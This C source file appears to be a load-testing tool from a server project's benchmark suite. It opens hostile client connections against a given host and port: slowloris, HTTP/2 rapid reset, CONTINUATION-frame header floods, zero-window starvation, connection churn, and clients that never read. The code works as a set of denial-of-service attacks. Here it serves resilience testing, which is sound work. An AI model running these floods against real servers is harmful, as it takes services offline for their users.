/* Clients that mean no good, each kind at a stated rate, for as long as it is left running:
 *
 *   hostile KIND HOST PORT COUNT
 *
 *   idle     COUNT connections that say nothing after HTTP/2's preface
 *   churn    COUNT connections a second, reset as soon as they are there
 *   loris    COUNT connections, each with one byte a second of a request that never ends
 *   window   COUNT connections, each with 20 calls for /big whose answers they have no window for
 *   reset    COUNT calls a second on one connection, each cancelled at once
 *   headers  COUNT connections a second that send headers until they are closed
 *   deaf     COUNT connections that ask for pages and read none
 *
 * Prints "ready" once it has begun. Every socket is non-blocking: what the server does not take is
 * not waited for. tests/bench/run.py hostile measures what others notice of it. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/buf.h"
#include "base/mem.h"

#define TICK_MS        5
#define CALLS_WINDOW   20
#define HEADERS_FRAMES 40
#define BACKLOG        256 /* connections that are opened between two looks at the clock */

static struct sockaddr_in address;

/* ---- sockets ------------------------------------------------------------------------------ */

static void die(const char *what)
{
    fprintf(stderr, "hostile: %s: %s\n", what, strerror(errno));
    exit(1);
}

/* Connected, since loopback connects at once; -1 if it was not taken. */
static int dial(void)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) {
        die("socket");
    }
    if (connect(fd, (struct sockaddr *)&address, sizeof address) != 0) {
        (void)close(fd);
        return -1;
    }
    if (fcntl(fd, F_SETFL, O_NONBLOCK) != 0) {
        die("fcntl");
    }
    return fd;
}

/* False: the other side closed. Bytes that it does not take are dropped. */
static bool say(int fd, struct buf *b)
{
    ssize_t n = send(fd, b->data, b->size, MSG_NOSIGNAL);
    return n >= 0 || errno == EAGAIN || errno == EWOULDBLOCK;
}

static void hang_up(int fd)
{
    struct linger reset = {.l_onoff = 1, .l_linger = 0};
    (void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
    (void)close(fd);
}

static bool drain(int fd)
{
    char bytes[65536];
    for (;;) {
        ssize_t n = recv(fd, bytes, sizeof bytes, 0);
        if (n <= 0) {
            return n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK);
        }
    }
}

/* ---- HTTP/2, spelled out ------------------------------------------------------------------ */

static void frame(struct buf *b, uint8_t type, uint8_t flags, uint32_t stream, size_t bytes)
{
    const uint8_t head[9] = {(uint8_t)(bytes >> 16), (uint8_t)(bytes >> 8), (uint8_t)bytes, type,
                             flags, (uint8_t)(stream >> 24), (uint8_t)(stream >> 16),
                             (uint8_t)(stream >> 8), (uint8_t)stream};
    buf_append(b, head, sizeof head);
}

static void preface(struct buf *b, bool without_window)
{
    static const char text[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    static const uint8_t no_window[6] = {0, 4, 0, 0, 0, 0};
    buf_append(b, text, sizeof text - 1);
    frame(b, 4, 0, 0, without_window ? sizeof no_window : 0);
    buf_append(b, no_window, without_window ? sizeof no_window : 0);
}

static void field(struct buf *b, const char *name, const char *value)
{
    const uint8_t literal = 0;
    uint8_t bytes = (uint8_t)strlen(name);
    buf_append(b, &literal, 1);
    buf_append(b, &bytes, 1);
    buf_append(b, name, bytes);
    bytes = (uint8_t)strlen(value);
    buf_append(b, &bytes, 1);
    buf_append(b, value, bytes);
}

/* A whole call for /big. */
static void call(struct buf *b, uint32_t stream)
{
    static const uint8_t ask[] = {0, 0, 0, 0, 6, 0x12, 4, '/', 'b', 'i', 'g'};
    struct buf fields = {0};
    field(&fields, ":method", "POST");
    field(&fields, ":scheme", "http");
    field(&fields, ":path", "/coord.v1.Tree/Get");
    field(&fields, ":authority", "coord");
    field(&fields, "te", "trailers");
    field(&fields, "content-type", "application/grpc");
    frame(b, 1, 4, stream, fields.size);
    buf_append(b, fields.data, fields.size);
    frame(b, 0, 1, stream, sizeof ask);
    buf_append(b, ask, sizeof ask);
    buf_close(&fields);
}

/* ---- the kinds ---------------------------------------------------------------------------- */

struct attack {
    int count;
    int *fds;
    int fd_count;
    uint32_t stream;
    int due; /* thousandths of what comes at a rate */
};

static void open_all(struct attack *a, struct buf *first)
{
    for (int i = 0; i < a->count; i++) {
        int fd = dial();
        if (fd >= 0 && say(fd, first)) {
            a->fds[a->fd_count++] = fd;
        } else if (fd >= 0) {
            hang_up(fd);
        }
        if (i % BACKLOG == BACKLOG - 1) {
            (void)poll(NULL, 0, TICK_MS);
        }
    }
}

/* How many of COUNT a second are due in this tick. */
static int due(struct attack *a)
{
    a->due += a->count * TICK_MS;
    int n = a->due / 1000;
    a->due %= 1000;
    return n;
}

static void tick_churn(struct attack *a)
{
    for (int n = due(a); n > 0; n--) {
        int fd = dial();
        if (fd >= 0) {
            hang_up(fd);
        }
    }
}

static void tick_loris(struct attack *a)
{
    struct buf x = {0};
    buf_append(&x, "x", 1);
    for (int n = due(a); n > 0 && a->fd_count > 0; n--) {
        a->stream = (a->stream + 1) % (uint32_t)a->fd_count;
        if (!say(a->fds[a->stream], &x)) {
            hang_up(a->fds[a->stream]);
            struct buf again = {0};
            buf_append(&again, "GET /", 5);
            int fd = dial();
            if (fd < 0 || !say(fd, &again)) {
                die("connect");
            }
            a->fds[a->stream] = fd;
            buf_close(&again);
        }
    }
    buf_close(&x);
}

static void tick_reset(struct attack *a)
{
    static const uint8_t cancel[4] = {0, 0, 0, 8};
    struct buf b = {0};
    if (a->fd_count == 0 || !drain(a->fds[0])) {
        if (a->fd_count > 0) {
            hang_up(a->fds[0]);
        }
        a->fds[0] = dial();
        a->fd_count = a->fds[0] >= 0;
        a->stream = 1;
        preface(&b, false);
    }
    for (int n = due(a); n > 0; n--) {
        call(&b, a->stream);
        frame(&b, 3, 0, a->stream, sizeof cancel);
        buf_append(&b, cancel, sizeof cancel);
        a->stream += 2;
    }
    if (a->fd_count > 0) {
        (void)say(a->fds[0], &b);
    }
    buf_close(&b);
}

static void tick_headers(struct attack *a)
{
    static const uint8_t filling[16384] = {0};
    struct buf b = {0};
    preface(&b, false);
    frame(&b, 1, 0, 1, 0);
    for (int i = 0; i < HEADERS_FRAMES; i++) {
        frame(&b, 9, 0, 1, sizeof filling);
        buf_append(&b, filling, sizeof filling);
    }
    for (int n = due(a); n > 0; n--) {
        int fd = dial();
        if (fd >= 0) {
            (void)say(fd, &b);
            hang_up(fd);
        }
    }
    buf_close(&b);
}

static void tick_nothing(struct attack *a)
{
    (void)a;
}

static const struct kind {
    const char *name;
    const char *first; /* what each connection begins with, if all are opened at once */
    bool is_http2;
    void (*tick)(struct attack *a);
} kinds[] = {
    {"idle", "", true, tick_nothing},
    {"churn", NULL, false, tick_churn},
    {"loris", "GET /", false, tick_loris},
    {"window", "", true, tick_nothing},
    {"reset", NULL, false, tick_reset},
    {"headers", NULL, false, tick_headers},
    {"deaf", "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n", false, tick_nothing},
};

static const struct kind *kind_find(const char *name)
{
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        if (strcmp(kinds[i].name, name) == 0) {
            return &kinds[i];
        }
    }
    fprintf(stderr, "hostile: unknown kind '%s'\n", name);
    exit(2);
}

static void begin(struct attack *a, const struct kind *k)
{
    struct buf first = {0};
    if (k->first == NULL) {
        return;
    }
    bool is_window = strcmp(k->name, "window") == 0;
    bool is_deaf = strcmp(k->name, "deaf") == 0;
    if (k->is_http2) {
        preface(&first, is_window);
    }
    for (uint32_t i = 0; is_window && i < CALLS_WINDOW; i++) {
        call(&first, 2 * i + 1);
    }
    for (int i = 0; i < (is_deaf ? 1000 : 1); i++) {
        buf_append(&first, k->first, strlen(k->first));
    }
    open_all(a, &first);
    buf_close(&first);
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: hostile KIND HOST PORT COUNT\n");
        return 2;
    }
    const struct kind *k = kind_find(argv[1]);
    struct attack a = {.count = atoi(argv[4])};
    struct rlimit files;
    if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
        files.rlim_cur = files.rlim_max;
        (void)setrlimit(RLIMIT_NOFILE, &files);
    }
    address = (struct sockaddr_in){.sin_family = AF_INET,
                                   .sin_port = htons((uint16_t)atoi(argv[3]))};
    if (a.count <= 0 || inet_pton(AF_INET, argv[2], &address.sin_addr) != 1) {
        fprintf(stderr, "hostile: HOST is an IPv4 address, COUNT at least 1\n");
        return 2;
    }
    a.fds = mem_zalloc((size_t)a.count * sizeof *a.fds);
    begin(&a, k);
    printf("ready\n");
    (void)fflush(stdout);
    for (;;) {
        k->tick(&a);
        (void)poll(NULL, 0, TICK_MS);
    }
}
